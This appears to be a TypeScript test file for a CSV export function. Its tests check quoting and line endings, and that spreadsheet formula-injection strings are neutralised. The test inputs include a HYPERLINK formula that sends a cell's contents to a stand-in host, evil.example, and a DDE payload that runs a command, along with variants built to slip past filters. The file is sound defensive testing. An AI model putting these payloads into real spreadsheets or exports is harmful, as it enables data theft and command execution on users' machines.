import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../../src/channels/desk/figures-csv.ts';

const linesOf = (csv: string): readonly string[] => csv.split('\r\n');

describe('a table for spreadsheets', () => {
  it('is UTF-8 with its mark, lines end as in RFC 4180, and what needs quotes has them', () => {
    const csv = toCsv(['a', 'b'], [['one, two', 'say "hi"']]);
    expect(csv).toBe('\u{FEFF}a,b\r\n"one, two","say ""hi"""');
  });

  it('keeps numbers as numbers, negative ones and missing ones too', () => {
    expect(linesOf(toCsv(['n', 'm', 'o'], [[-1, 2.5, null]]))[1]).toBe('-1,2.5,');
  });

  it.each([
    `=HYPERLINK("http://evil.example?"&A1,"Refund")`,
    `=cmd|' /C calc'!A0`,
    '+1+1',
    '-2+3',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '＝1+1',
    '=1+1","=2+2',
  ])('makes %j harmless, and loses nothing of it', (attack) => {
    const csv = toCsv(['phrase', 'n'], [[attack, 1]]);
    const [, row] = Papa.parse<readonly string[]>(csv.slice(1)).data;
    expect(row).toEqual([`'${attack}`, '1']);
  });

  it('has no cell that begins like a formula, whatever the text', () => {
    const nasty = fc.string({
      unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', ',', 'a', '＝'),
    });
    fc.assert(
      fc.property(fc.array(nasty, { minLength: 1, maxLength: 5 }), (texts) => {
        const columns = texts.map((_, index) => `column ${index}`);
        const known = { delimiter: ',', newline: '\r\n' } as const;
        const { data } = Papa.parse<readonly string[]>(toCsv(columns, [texts]).slice(1), known);
        expect(data).toHaveLength(2);
        expect(
          data
            .slice(1)
            .flat()
            .filter((cell) => /^[\s=+\-@＝]*[=+\-@＝]/u.test(cell)),
        ).toEqual([]);
      }),
    );
  });
});
